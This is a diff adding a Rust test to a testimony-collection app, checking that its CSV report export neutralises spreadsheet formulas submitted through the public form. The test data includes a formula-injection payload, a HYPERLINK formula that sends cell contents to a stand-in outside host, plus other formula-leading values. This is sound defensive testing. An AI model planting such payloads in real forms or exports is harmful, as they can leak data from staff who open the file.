@@ -457,6 +457,88 @@ async fn the_report_export_holds_only_what_authors_allow_and_nothing_withdrawn()
     Ok(())
 }
 
+/// The attack: a participant posts, through the public form, a testimony whose pseudonym
+/// and text are spreadsheet formulas, and waits for staff to open the report in LibreOffice
+/// or Excel. Every such cell must come out as text (a leading apostrophe), never a formula.
+#[tokio::test]
+async fn a_formula_typed_by_a_participant_comes_out_of_the_report_inert() -> anyhow::Result<()> {
+    use agora_app::domain::testimony::Story;
+    use agora_app::store::testimonies::{self, Decision};
+    use sea_orm::QueryOrder;
+    let app = TestApp::with_demo().await?;
+    let slug = demo::slug();
+    let here = CouncilSlug::parse(slug)?;
+    let council = app.demo_council_id().await?;
+    let pseudonym = r#"=HYPERLINK("//x.example/?"&A1)"#;
+    let story = Story {
+        happened: "=1+1".into(),
+        helped: "@SOMME(A1:A9)".into(),
+        change: "-2+3".into(),
+    };
+    let response = app
+        .post_multipart(
+            "/api/post_testimony",
+            None,
+            &[
+                ("slug", slug),
+                ("pseudonym", pseudonym),
+                ("happened", &story.happened),
+                ("helped", &story.helped),
+                ("change", &story.change),
+                ("report", "on"),
+            ],
+            None,
+        )
+        .await?;
+    assert!(location(&response).ends_with("/temoignages/suivi"));
+    let posted = testimony::Entity::find()
+        .order_by_desc(testimony::Column::Id)
+        .one(&app.db)
+        .await?
+        .ok_or_else(|| anyhow::anyhow!("the testimony"))?;
+    // A moderator reads it as harmless text and approves it.
+    let approve = Decision::Approve {
+        story: story.clone(),
+        content_warning: String::new(),
+        easy_summary: "+ une personne raconte".into(),
+    };
+    testimonies::moderate(&app.db, council, posted.id, approve, None).await?;
+    let (_, observer) = app
+        .staff_member(&here, Role::Observer, "Olga Observe")
+        .await?;
+    let (status, file) = app
+        .get_with_cookie(
+            &format!("/api/testimonies_report_csv?slug={slug}"),
+            Some(&observer),
+        )
+        .await?;
+    assert_eq!(status, 200);
+    let file = file.trim_start_matches('\u{feff}');
+    let rows: Vec<Vec<String>> = csv::ReaderBuilder::new()
+        .delimiter(b';')
+        .from_reader(file.as_bytes())
+        .records()
+        .map(|r| r.map(|r| r.iter().map(str::to_owned).collect()))
+        .collect::<Result<_, _>>()?;
+    let row = rows
+        .iter()
+        .find(|row| row[3].contains("1+1"))
+        .ok_or_else(|| anyhow::anyhow!("the testimony's line in {rows:?}"))?;
+    assert_eq!(row[0], format!("'{pseudonym}"));
+    assert_eq!(row[3], "'=1+1");
+    assert_eq!(row[4], "'@SOMME(A1:A9)");
+    assert_eq!(row[5], "'-2+3");
+    assert_eq!(row[6], "'+ une personne raconte");
+    // No cell of the file, whatever its column, starts like a formula.
+    for cell in rows.iter().flatten() {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "{cell:?}"
+        );
+    }
+    Ok(())
+}
+
 #[tokio::test]
 async fn the_projector_shows_one_chosen_testimony_only_while_its_author_allows_it()
 -> anyhow::Result<()> {
